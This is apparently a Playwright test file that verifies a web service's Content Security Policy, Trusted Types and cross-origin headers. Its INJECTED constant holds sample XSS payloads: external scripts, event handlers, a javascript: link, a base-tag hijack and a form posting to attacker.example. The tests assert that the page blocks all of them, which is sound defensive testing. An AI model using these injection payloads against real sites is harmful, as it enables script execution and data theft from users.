import type { Page } from 'playwright-core';
import { expect, inject, it } from 'vitest';
import { sharedChromium, openPage } from './launch.ts';

const browser = await sharedChromium();

const INJECTED = `
  <script>window.ran = 'inline script'</script>
  <script src="https://attacker.example/script.js"></script>
  <img src="x" onerror="window.ran = 'handler'">
  <iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
  <a id="lure" href="javascript:window.ran='address'">x</a>
  <base href="https://attacker.example/">
  <style>h1 { display: none }</style>
  <form id="thief" action="https://attacker.example/"><input name="a" value="b"></form>
`;

it('what is injected into the page does not run, load, style or send', async () => {
  const { page, close, seen } = await openPage(browser, { path: 'fi/palvelut/' });
  const reached: string[] = [];
  await page.route('https://attacker.example/**', async (route) => {
    reached.push(route.request().url());
    await route.fulfill({ contentType: 'text/javascript', body: "window.ran = 'foreign script'" });
  });
  await page.route('**/sv/', async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace('<body>', `<body>${INJECTED}`);
    await route.fulfill({ response, body });
  });
  await page.goto(`${inject('siteUrl')}sv/`);
  await page.locator('main button').waitFor();
  // The wizard goes on as if nothing had been there.
  await page.locator('main button').click();
  await page.locator('form:not(#thief)').waitFor();
  expect(await page.locator('h1').isVisible()).toBe(true);
  await page.locator('#lure').evaluate((link: HTMLElement) => link.click());
  expect(await ran(page)).toBe('nothing');

  await page.locator('#thief').evaluate((form: HTMLFormElement) => form.submit());
  await expect.poll(() => refused('form-action')).toBe(1);
  expect(refused('script-src')).toBeGreaterThanOrEqual(3);
  expect(refused('style-src')).toBeGreaterThanOrEqual(1);
  expect(refused('base-uri')).toBe(1);
  expect(reached).toEqual([]);
  await close();

  function refused(directive: string) {
    return seen.consoleErrors.filter((line) => line.includes(directive)).length;
  }
});

it('a script of the page itself cannot make another of text, nor send anything', async () => {
  const { page, close } = await openPage(browser, { path: 'fi/' });
  await page.locator('main button').waitFor();
  const outcomes = await page.evaluate(async () => {
    const script = document.createElement('script');
    const types = window as unknown as {
      trustedTypes: { createPolicy: (name: string, rules: object) => unknown };
    };
    const attempts: [string, () => unknown][] = [
      ['markup', () => (document.body.innerHTML = '<b>x</b>')],
      ['script of text', () => (script.text = 'window.ran = 1')],
      ['script from an address', () => (script.src = '/x.js')],
      ['policy of its own', () => types.trustedTypes.createPolicy('mine', {})],
      ['request', () => fetch('/fi/')],
    ];
    const refused: string[] = [];
    for (const [name, attempt] of attempts) {
      try {
        await attempt();
      } catch (error) {
        refused.push(`${name}: ${(error as Error).name}`);
      }
    }
    return refused;
  });
  expect(outcomes).toEqual([
    'markup: TypeError',
    'script of text: TypeError',
    'script from an address: TypeError',
    'policy of its own: TypeError',
    'request: TypeError',
  ]);
  expect(await ran(page)).toBe('nothing');
  await close();
});

it.each(['fi/', 'fi/palvelut/', 'assets/', 'not-here', 'worker.js'])(
  '%s comes with every header of the shipped server',
  async (path) => {
    const response = await fetch(new URL(path, inject('siteUrl')));
    const headers = Object.fromEntries(response.headers);
    expect(headers).toMatchObject({
      'referrer-policy': 'no-referrer',
      'x-content-type-options': 'nosniff',
    });
    const policy = headers['content-security-policy'] ?? '';
    expect(policy).toContain("default-src 'none'");
    expect(policy).not.toMatch(/unsafe|\*(?!\.hel\.fi)|https:(?!\/\/\*\.hel\.fi)/);
    if (path === 'worker.js') return;
    expect(policy).toContain("require-trusted-types-for 'script'");
    expect(policy).toContain("connect-src 'none'");
    expect(headers).toMatchObject({
      'cross-origin-opener-policy': 'same-origin',
      'permissions-policy': expect.stringContaining('camera=()') as string,
    });
  },
);

it('files for other sites, and no others, may be read by their pages', async () => {
  const asked = { headers: { origin: 'http://127.0.0.1:8000' } };
  const there = await fetch(new URL('embed/tukipolku.js', inject('siteUrl')), asked);
  expect(there.headers.get('access-control-allow-origin')).toBe('*');
  expect(there.headers.get('cross-origin-resource-policy')).toBe('cross-origin');
  expect(there.headers.get('content-security-policy')).toContain("default-src 'none'");
  for (const path of ['fi/', 'env-config.js', 'worker.js', 'assets/']) {
    const { headers } = await fetch(new URL(path, inject('siteUrl')), asked);
    expect(headers.get('access-control-allow-origin')).toBeNull();
    expect(headers.get('cross-origin-resource-policy')).toBeNull();
  }
});

function ran(page: Page) {
  return page.evaluate(() => (window as { ran?: string }).ran ?? 'nothing');
}
